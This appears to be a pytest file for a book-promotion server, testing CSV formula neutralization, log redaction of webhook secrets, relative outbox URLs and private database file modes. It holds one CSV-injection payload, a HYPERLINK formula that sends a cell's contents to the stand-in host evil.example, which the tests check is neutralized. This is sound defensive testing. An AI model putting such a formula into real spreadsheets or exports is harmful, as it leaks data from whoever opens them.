"""Security hygiene against the real server (`bookagent serve`, gunicorn) on a fresh data dir.

- The weekly report's CSV neutralizes spreadsheet formulas in text cells (OWASP CSV injection).
- A webhook URL (for Zapier or Make, the secret itself) never reaches the server's log whole.
- An outbox post's `published_url` is relative to the outbox, never the server's absolute path.
- The SQLite database (and its WAL companions) is created private: mode 0600.
"""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC
from datetime import date
from datetime import datetime
from pathlib import Path
from typing import Any

import httpx
import pytest

from bookagent.db.models import Post
from bookagent.db.session import Database
from bookagent.publishers.outbox import outbox_file
from tests.conftest import BOOK
from tests.fakes.social_server import WEBHOOK_PATH
from tests.fakes.social_server import WEBHOOK_SECRET
from tests.fakes.social_server import FakeSocialServer
from tests.support.agent_flow import schedule_one_post
from tests.support.polling import wait_until
from tests.support.processes import BIN
from tests.support.processes import base_env
from tests.support.processes import running
from tests.support.processes import wait_for_http
from tests.support.services import free_port

WEEK = date(2027, 3, 1)  # a Monday
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a free copy")'
# A webhook URL whose path and query are the credential, as Zapier's and Make's are.
HOOK_QUERY_SECRET = "zap-query-s3cret-4f7a9c"
PRIVATE = 0o600


@dataclass
class Server:
    url: str
    data: Path
    log: Path
    hooks: FakeSocialServer
    #: The database files' modes as serve left them, before this test process opens the file.
    modes_at_start: dict[str, int]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """`bookagent serve` on a fresh data dir, with the webhook pointed at a fake receiver."""
    data = tmp_path_factory.mktemp("hygiene") / "data"  # does not exist yet: serve creates it
    log = data.parent / "serve.log"
    port = free_port()
    previous_umask = os.umask(0o022)  # the usual umask: SQLite alone would create the db 0644
    try:
        with FakeSocialServer() as hooks:
            env = base_env(
                data,
                TASK_BACKEND="thread",
                PORT=str(port),
                BOOKAGENT_QUEUE__SCHEDULER_INTERVAL_S="1",
                BOOKAGENT_PUBLISHERS__WEBHOOK_URL=f"{hooks.url}{WEBHOOK_PATH}?token={HOOK_QUERY_SECRET}",
                BOOKAGENT_PUBLISHERS__WEBHOOK_SECRET=WEBHOOK_SECRET,
            )
            with running([str(BIN / "bookagent"), "serve"], env, log) as proc:
                health = wait_for_http(f"http://127.0.0.1:{port}/api/health", proc=proc)
                assert health.json()["services"]["database"]["ok"] is True
                modes = {p.name: mode_of(p) for p in data.glob("bookagent.db*")}
                yield Server(f"http://127.0.0.1:{port}", data, log, hooks, modes)
    finally:
        os.umask(previous_umask)


@pytest.fixture(scope="module")
def book_id(server: Server) -> str:
    created = httpx.post(f"{server.url}/api/books", json=BOOK)
    assert created.status_code == 201, created.text
    return str(created.json()["book"]["id"])


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def add_published_post(server: Server, book_id: str, content: str, likes: int) -> str:
    """A post published in WEEK with engagement, written straight into the server's database
    (no publisher reports metrics for the outbox, and a report's top posts need them)."""
    database = Database.from_url(f"sqlite:///{server.data / 'bookagent.db'}")
    moment = datetime(2027, 3, 2, 12, 0, tzinfo=UTC)
    try:
        with database.session() as session:
            post = Post(
                book_id=book_id,
                user_id="alice",
                platform="twitter",
                post_type="hook_question",
                content=content,
                content_hash=f"h-{likes}",
                status="published",
                measured_length=len(content),
                limit=280,
                provider="template",
                model="template-v1",
                prompt_hash="p",
                cost_usd=0.0,
                created_at=moment,
                updated_at=moment,
                approved_at=moment,
                published_at=moment,
                metrics={"likes": likes},
            )
            session.add(post)
            session.flush()
            return post.id
    finally:
        database.dispose()


def weekly_report(server: Server) -> str:
    queued = httpx.post(
        f"{server.url}/api/reports/weekly", json={"user_id": "alice", "week_start": str(WEEK)}
    )
    assert queued.status_code == 202, queued.text
    task_id = queued.json()["task_id"]

    def finished() -> dict[str, Any] | None:
        status: dict[str, Any] = httpx.get(f"{server.url}/api/task-status/{task_id}").json()
        return status if status["status"] in ("SUCCESS", "FAILURE") else None

    done = wait_until(finished, 60, every_s=0.2, what="the weekly report")
    assert done["status"] == "SUCCESS", done
    return str(done["result"]["report_id"])


def test_csv_export_neutralizes_a_formula_in_a_post(server: Server, book_id: str) -> None:
    formula_post = add_published_post(server, book_id, HYPERLINK, likes=9)
    minus_post = add_published_post(server, book_id, "-3 reasons to read it tonight", likes=4)
    report_id = weekly_report(server)

    response = httpx.get(f"{server.url}/api/reports/{report_id}.csv?table=top_posts")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    raw = response.text
    rows = {row["post_id"]: row for row in csv.DictReader(io.StringIO(raw))}

    assert rows[formula_post]["content"] == "'" + HYPERLINK  # shown as text, never evaluated
    assert rows[minus_post]["content"] == "'-3 reasons to read it tonight"
    assert "\"'=HYPERLINK(" in raw  # the neutralized cell is quoted too
    assert not any(line.startswith("=") or ',"=' in line for line in raw.splitlines())
    # Numbers the report computed stay bare numbers (a spreadsheet reads them as numbers).
    assert f'"{formula_post}","twitter","hook_question",9,' in raw

    platforms = httpx.get(f"{server.url}/api/reports/{report_id}.csv?table=platforms").text
    [twitter] = [line for line in platforms.splitlines() if line.startswith('"twitter"')]
    assert twitter.startswith('"twitter",2,2,0,2,0,0,')  # generated ... unconfirmed


def test_the_webhook_url_never_reaches_the_server_log(server: Server) -> None:
    tested = httpx.get(f"{server.url}/api/test-platform/facebook").json()
    assert tested["publisher"] == "webhook" and tested["api_connected"] is True, tested
    assert server.hooks.requests_to(WEBHOOK_PATH), "the ping did not reach the receiver"

    def logged() -> str | None:
        text = server.log.read_text()
        return text if "HTTP Request: POST" in text else None

    log = wait_until(logged, 10, what="httpx's request line in the server log")
    assert HOOK_QUERY_SECRET not in log
    assert WEBHOOK_PATH + "?" not in log
    assert f'HTTP Request: POST {server.hooks.url} "HTTP/' in log  # the origin only


def test_an_outbox_post_gets_a_url_relative_to_the_outbox(server: Server, book_id: str) -> None:
    post = {"id": schedule_one_post(server.url, "twitter", due_in_s=2)}

    published = wait_until(
        lambda: (
            (p := httpx.get(f"{server.url}/api/posts/{post['id']}").json()["post"])["status"]
            == "published"
            and p
        ),
        60,
        every_s=0.5,
        what="the post to be published to the outbox",
    )
    url = published["published_url"]
    assert url and not Path(url).is_absolute() and "://" not in url
    assert str(server.data) not in url and server.data.parent.name not in url
    assert url.startswith("twitter/") and url.endswith(f"/{post['id']}.md")
    assert outbox_file(server.data / "outbox", url).is_file()


def test_serve_creates_the_database_private(server: Server) -> None:
    modes = server.modes_at_start
    assert {"bookagent.db", "bookagent.db-wal", "bookagent.db-shm"} <= set(modes), modes  # WAL
    assert modes == dict.fromkeys(modes, PRIVATE), {k: oct(v) for k, v in modes.items()}


def db_upgrade(data: Path) -> subprocess.CompletedProcess[str]:
    previous_umask = os.umask(0o022)
    try:
        return subprocess.run(
            [str(BIN / "bookagent"), "db", "upgrade"],
            env=base_env(data),
            capture_output=True,
            text=True,
            timeout=120,
        )
    finally:
        os.umask(previous_umask)


def test_db_upgrade_creates_a_private_database_and_tightens_an_open_one(tmp_path: Path) -> None:
    fresh = tmp_path / "fresh"
    result = db_upgrade(fresh)
    assert result.returncode == 0, result.stderr
    assert mode_of(fresh / "bookagent.db") == PRIVATE

    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "bookagent.db").touch(mode=0o644)
    os.chmod(shared / "bookagent.db", 0o664)  # as an old release (or a copy) left it
    result = db_upgrade(shared)
    assert result.returncode == 0, result.stderr
    assert mode_of(shared / "bookagent.db") == PRIVATE
